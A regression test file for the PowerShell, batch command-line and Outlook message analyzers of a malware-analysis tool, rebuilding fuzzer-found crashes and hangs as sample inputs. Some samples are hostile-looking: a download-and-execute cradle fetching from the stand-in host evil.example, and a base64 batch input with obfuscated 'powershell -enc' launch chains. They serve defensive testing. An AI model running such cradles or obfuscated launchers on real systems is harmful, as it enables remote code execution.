// Every crash and hang the fuzzers found (test/fuzz-properties.test.ts, test/fuzz.test.ts, scripts/fuzz.ts),
// minimised and rebuilt here from readable bytes, with what the analyst should get instead.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { cmdlineAnalyzer } from '../src/analyzers/cmdline/index.ts';
import { msgAnalyzer } from '../src/analyzers/mail/msg.ts';
import { linearRegExp } from '../src/analyzers/powershell/linear-regex.ts';
import { powershellAnalyzer } from '../src/analyzers/powershell/index.ts';
import type { AnalyzerResult } from '../src/engine/types.ts';
import { outlookMsg } from './generators/msg.ts';
import { findingIds, runAnalyzer } from './generators/pe-run.ts';

const powershell = (script: string) => runAnalyzer(powershellAnalyzer, new TextEncoder().encode(script), 'stage.ps1', {}, 'powershell');
const commandLine = (text: string | Uint8Array) => runAnalyzer(cmdlineAnalyzer, typeof text === 'string' ? new TextEncoder().encode(text) : text, 'run.bat', {}, 'cmdline');
const outlook = (data: Uint8Array) => runAnalyzer(msgAnalyzer, data, 'report.msg', {}, 'msg');
const limitDetails = (r: AnalyzerResult) => (r.limits ?? []).map((l) => `${l.limit}: ${l.detail}`);

test('PowerShell: a trailing comma, "!" or "-" is an incomplete script, not a nesting error thrown out of the analyzer', async () => {
  // Found by scripts/fuzz.ts (minimised to ","): the end of the text was read as a dash, forever.
  for (const script of [',', '1,', '!', '-', '$a = 1,', "iex 'x' -join"]) {
    const r = await powershell(script);
    assert.ok(Array.isArray(r.findings), JSON.stringify(script));
  }
});

test('PowerShell: nesting past the parser limit is recovered as a parse error', async () => {
  // The depth counter kept the failed level, so the top-level statement list rethrew instead of recovering.
  for (const script of ['('.repeat(500), '{'.repeat(500), '!'.repeat(500), '- '.repeat(500), '$('.repeat(300), '@('.repeat(300), '&{'.repeat(300)]) {
    const r = await powershell(script);
    assert.ok(findingIds(r).includes('powershell.parse.incomplete'), `${script.slice(0, 6)}…: ${findingIds(r).join(', ')}`);
  }
});

test("PowerShell: 20,000 concatenated pieces are folded, not a stack overflow", async () => {
  const r = await powershell(`$u = ${"'a'+".repeat(20_000)}'b'; iex $u`);
  assert.ok(findingIds(r).includes('powershell.obfuscation.concatenation'), findingIds(r).join(', '));
  assert.deepEqual(limitDetails(r), []);
});

test('PowerShell: a member chain thousands long stops evaluation with a limit the report names', async () => {
  // Found by the property test (token soup "$x." repeated): the evaluator recursed once per member.
  for (const script of [`${'$x.'.repeat(4000)}y`, `$a${'[0]'.repeat(5000)}`, `$a${'.b()'.repeat(5000)}`]) {
    const r = await powershell(script);
    assert.ok(limitDetails(r).some((l) => l.startsWith('powershellSteps: evaluation stopped: the script nests deeper')), `${script.slice(0, 8)}…: ${limitDetails(r).join('; ')}`);
  }
});

/** Renames a property stream in the compound file's directory (names are UTF-16 there): same bytes, other type tag. */
function retag(data: Uint8Array, stream: string, newType: string): Uint8Array {
  const out = Buffer.from(data);
  const at = out.indexOf(Buffer.from(stream, 'utf16le'));
  assert.ok(at > 0, `${stream} is in the directory`);
  out.write(newType, at + (stream.length - 4) * 2, 'utf16le');
  return new Uint8Array(out);
}

test('msg: a sender name and subject tagged as binary are not strings, and do not crash the header checks', async () => {
  // Found by the property test: msgreader returns what the type tag says (here bytes), and
  // `from.name.normalize` / `subject.matchAll` threw out of the analyzer.
  const item = outlookMsg({ subject: 'Invoice 4411', senderName: 'Laura Becker', senderEmail: 'l.becker@hoffmann-logistik.example', body: 'Password: Inv4411' });
  const lying = retag(retag(item, '__substg1.0_0C1A001F', '0102'), '__substg1.0_0037001F', '0102');
  const r = await outlook(lying);
  assert.ok(!findingIds(r).includes('email.msg.unparseable'), 'the rest of the item is still read');
  assert.equal(r.context?.email?.subject, undefined, 'no subject rather than bytes');
});

test('msg: a cycle in the allocation table is reported as unreadable at once, not after filling the worker heap', async () => {
  // Found by scripts/fuzz.ts: 8 KB items took 10-16 s and 512 MB before the worker died.
  const item = outlookMsg({ subject: 'Invoice', senderName: 'Laura', senderEmail: 'l@x.example', body: 'b' });
  const view = new DataView(item.buffer, item.byteOffset, item.byteLength);
  const sectorSize = 1 << view.getUint16(0x1e, true);
  const directory = view.getUint32(0x30, true);
  const firstFatSector = view.getUint32(0x4c, true);
  view.setUint32((firstFatSector + 1) * sectorSize + 4 * directory, directory, true); // the directory chain points at itself
  const r = await outlook(item);
  const unreadable = (r.findings ?? []).find((f) => f.id === 'email.msg.unparseable');
  assert.ok(unreadable, findingIds(r).join(', '));
  assert.match(unreadable.evidence, /cycle/, 'stopped by the chain check, not by the memory cap');
});

test('msg: a header that claims millions of DIFAT sectors is read as far as the file goes', async () => {
  // Found by scripts/fuzz.ts (slow: a 3.5 KB item took 2.5 s): msgreader re-read one sector per claimed one.
  const item = outlookMsg({ subject: 'Invoice 4411', senderName: 'Laura', senderEmail: 'l@x.example', body: 'Password: Inv4411' });
  const view = new DataView(item.buffer, item.byteOffset, item.byteLength);
  const sectorSize = 1 << view.getUint16(0x1e, true);
  const last = item.length / sectorSize - 2; // the file's last sector (sector n sits at (n + 1) × size)
  view.setUint32(0x44, last, true); // first DIFAT sector
  view.setUint32(0x48, 0x00ffffff, true); // DIFAT sector count
  view.setUint32((last + 1) * sectorSize + sectorSize - 4, last, true); // …whose "next" link is itself
  const r = await outlook(item);
  assert.equal(r.context?.email?.subject, 'Invoice 4411', 'the item is still read');
});

test('msg: directory entries that link in a loop are reported as unreadable, not walked until the heap cap', async () => {
  // Found by scripts/fuzz.ts (slow, then out of memory): msgreader's directory walk has no visited set.
  const item = outlookMsg({ subject: 'Invoice 4411', senderName: 'Laura', senderEmail: 'l@x.example', body: 'b' });
  const view = new DataView(item.buffer, item.byteOffset, item.byteLength);
  const sectorSize = 1 << view.getUint16(0x1e, true);
  const directory = (view.getUint32(0x30, true) + 1) * sectorSize; // 128-byte entries; entry 0 is the root
  const child = view.getUint32(directory + 0x4c, true);
  view.setUint32(directory + child * 128 + 0x48, child, true); // the root's first child is its own right sibling
  const r = await outlook(item);
  const unreadable = (r.findings ?? []).find((f) => f.id === 'email.msg.unparseable');
  assert.ok(unreadable, findingIds(r).join(', '));
  assert.match(unreadable.evidence, /directory entries link in a loop/);
});

test('PowerShell: a catastrophic regular expression (a+)+$ no longer blocks the process', { timeout: 60_000 }, async () => {
  // Found by probing the evaluator with hostile patterns: 30 characters took 35 s, each one more doubled it,
  // and the synchronous evaluator cannot be interrupted by the analysis timer.
  const r = await powershell("$x = ('a' * 40) + '!'; if ($x -match '(a+)+$') { iex 'matched' } else { iex 'not matched' }");
  assert.ok((r.findings ?? []).some((f) => f.id === 'powershell.exec.layer' && f.evidence.includes('not matched')), JSON.stringify(r.findings));
  for (const script of ["('a' * 40 + '!') -replace '(a|a)+$', 'b'", "[regex]::Matches(('a' * 40) + '!', '(a+)+$')", "('a' * 20000) -like ('*a' * 40 + '*b')"]) {
    assert.ok(Array.isArray((await powershell(script)).findings), script);
  }
});

test('PowerShell: case-insensitive patterns still resolve (the linear engine gets both cases spelled out)', async () => {
  const r = await powershell("$u = 'http://X.example/a' -replace 'x\\.EXAMPLE', 'evil.example'; iex (New-Object Net.WebClient).DownloadString($u)");
  assert.ok((r.iocs ?? []).some((i) => i.type === 'url' && i.value === 'http://evil.example/a'), JSON.stringify(r.iocs));
});

test('linear-time regular expressions match like the backtracking engine, case-insensitive included', () => {
  const atom = fc.constantFrom('a', 'B', 'c', '.', '\\d', '\\W', '[a-c]', '[^B]', '[A-Cx]', '(?:ab)', '(a|B)', '(?<n>c)', '\\x41', '\\u0062', '\\e', '[\\x41-\\x43]', '[b\\x63]', '-', '\\.');
  const quantifier = fc.constantFrom('', '', '*', '+', '?', '{1,2}');
  const pattern = fc.array(fc.tuple(atom, quantifier), { minLength: 1, maxLength: 5 }).map((parts) => parts.map(([a, q]) => a + q).join(''));
  const subject = fc.string({ unit: fc.constantFrom('a', 'A', 'b', 'B', 'c', 'C', 'x', '1', '-', '.', ' '), maxLength: 10 });
  fc.assert(
    fc.property(pattern, subject, fc.constantFrom('i', 'gi', ''), (p, s, flags) => {
      let valid = true;
      try {
        new RegExp(p, flags);
      } catch {
        valid = false; // e.g. a group name used twice: not a pattern at all
      }
      fc.pre(valid);
      const linear = linearRegExp(p, flags);
      if (!linear) {
        assert.match(p, /\\x4\d-/, `${p} /${flags} compiles for the linear engine`); // only an escaped range end is refused
        return;
      }
      assert.deepEqual([...s.matchAll(new RegExp(linear.source, linear.flags.replace(/[lg]/g, '') + 'g'))].map((m) => [m.index, m[0]]), [...s.matchAll(new RegExp(p, flags.replace('g', '') + 'g'))].map((m) => [m.index, m[0]]), `${p} /${flags} on ${JSON.stringify(s)}`);
    }),
    { numRuns: 2000, seed: 424242 },
  );
});

test('cmdline: a variable doubled forty times stops growing at the longest command line Windows runs', async () => {
  // Found by scripts/fuzz.ts (a hang, then, reduced, an out-of-memory crash of the whole process): 2^40 characters.
  const batch = ['set x=ab', ...Array.from({ length: 40 }, () => 'set x=%x%%x%'), 'powershell -c "echo %x%"'].join('\r\n');
  const r = await commandLine(batch);
  assert.ok(findingIds(r).includes('cmdline.launcher.powershell'), findingIds(r).join(', '));
});

test('cmdline: nested cmd /c chains are read within the step budget and name the nesting limit once', async () => {
  // The input scripts/fuzz.ts reported as a hang (mutated from the `set x=pow&& set y=ershell&& call %x%%y%` seed).
  const fuzzed = Buffer.from('c2V0IHg9ZC5leGUgL2MgInNldCB4PXJzaGVsbCYmIGNhbGwgJXglJXklbWQuZXhlIC9jPXJzaGVsbCYmIGNhbGwgJXglJXklbWQuZXhlIC9jICJzZXQgeCAic2JBQmpBQT18fHNldCB4PWV0bGwgJXglJXklbWQubCYmIGNhbGwgJXglJXklbWQuZXhlIC9jICJzZXQgeD1ldCB4PSV4JSV5JW1kLmV4ZSAvYyAic2V0ICJzZXRsJiZEY2FsbCAleCUleSVtZC5leGUgL2MgInN3dCBlIC9jICJzZXQgeD1yc2hlbGwmJiBjYWxsICV4JSV5JW1kLmV4ZSAvYyAic2V0IHg9cG93JiYgc2VtdC5leGUgL2MgIiB4PXBvdyYLIHNldCB5PXQgeD1wb3cmJiBzZXQgeT1lcnNoZWxsJiYgY2FsbCAleCUleSUgLWVuYyBhUUJsQUhnQUlBQmpBR0VOYkFCakFBPXx8c2V0IHg9cG93JiYgc2WZIHk9ZXJzaGUAAAEAIGNhbGwgJXglJXklIC1jYWxsICV4JSV5JW10LmV4ZSAvYyAifHxzZXQgeD1wb3cmJiBzZXQgeT1lcnNoZWxsJiYgY2FsbCAleCUlef8gLWVuYyBhUUJsQUhnQUlBQmpBR0VBYkFCakFBPXx8c2V0IHg9cG93JiYgc2V0IHk9ZXJzaGVsbCYmIGNhbGwgJXglJXklIC1lbmMgYVFCbEFIZ0FJQUJqQUdFQWJBQmpBQT0gLWVuYyBhUUJsQUhnQUlBQmpBR0UtYyBCakFBPT0i', 'base64');
  const r = await commandLine(new Uint8Array(fuzzed));
  assert.deepEqual(limitDetails(r), ['maxDecodedLayers: stopped following nested command lines after 16 levels']);
});

test('PowerShell: a misspelt member of a 64 KiB buffer in an endless loop ends at the step budget', async () => {
  // Found by scripts/fuzz.ts (a hang, mutated from the TCP client seed): member enumeration over every byte
  // was not counted as evaluation steps.
  const r = await powershell('[byte[]]$b = 0..65535|%{0}; while ($true) { $n = $b.Lenght }');
  assert.ok(limitDetails(r).some((l) => l.startsWith('powershellSteps: evaluation stopped after')), limitDetails(r).join('; '));
});
